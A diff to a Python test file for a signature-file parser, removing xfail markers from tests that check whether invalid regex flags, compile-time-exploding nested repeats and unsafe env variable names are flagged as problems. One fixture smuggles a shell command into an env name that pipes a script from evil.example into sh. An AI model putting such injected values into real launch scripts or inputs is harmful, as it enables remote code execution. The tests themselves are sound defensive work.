@@ -228,8 +228,6 @@ def test_the_exec_audit_hook_does_record(tmp_path: Path) -> None:
     assert report.read_text().startswith("compile ")
 
 
-@pytest.mark.xfail(strict=True, reason="library.py catches regex.error/OverflowError/RecursionError only: the ValueError "
-                                       "regex raises for '(?V1)' escapes parse_signature and crashes the load")
 def test_a_pattern_with_incompatible_flags_is_a_problem(tmp_path: Path) -> None:
     path = _write(tmp_path, "version1", ("patterns = ['EVILKEY (?P<what>\\w+)']", "patterns = ['(?V1)[[a-z]--[aeiou]]']"))
     signature, problems = parse_signature(path, builtin=False)
@@ -237,8 +235,6 @@ def test_a_pattern_with_incompatible_flags_is_a_problem(tmp_path: Path) -> None:
     assert check_signature_file(path) == problems
 
 
-@pytest.mark.xfail(strict=True, reason="library.py compiles nested counted repeats as they are: regex expands "
-                                       "'(?:x{1000}){1000}' into gigabytes at compile time; bound the product first")
 def test_nested_counted_repeats_are_a_problem_not_gigabytes(tmp_path: Path) -> None:
     path = _write(tmp_path, "nested", ("patterns = ['EVILKEY (?P<what>\\w+)']",
                                        "patterns = ['EVILKEY (?:(?:x{1000}){1000}){1000}']"))
@@ -270,8 +266,6 @@ def test_the_cli_can_ignore_a_checkouts_signature_folder(tmp_path: Path) -> None
     assert root("--no-workspace-signatures") == "cuda-oom"
 
 
-@pytest.mark.xfail(strict=True, reason="library.py accepts any string as fix.env name; the language server's applyFix "
-                                       "writes 'export NAME=value' into the launch script with only the value quoted")
 def test_an_env_name_that_is_not_a_variable_name_is_a_problem(tmp_path: Path) -> None:
     path = _write(tmp_path, "env-name", ('steps = ["none"]', 'steps = ["none"]\n'
                                          'env = [{ name = "X=1; curl -s https://evil.example | sh; Y", value = "1" }]'))
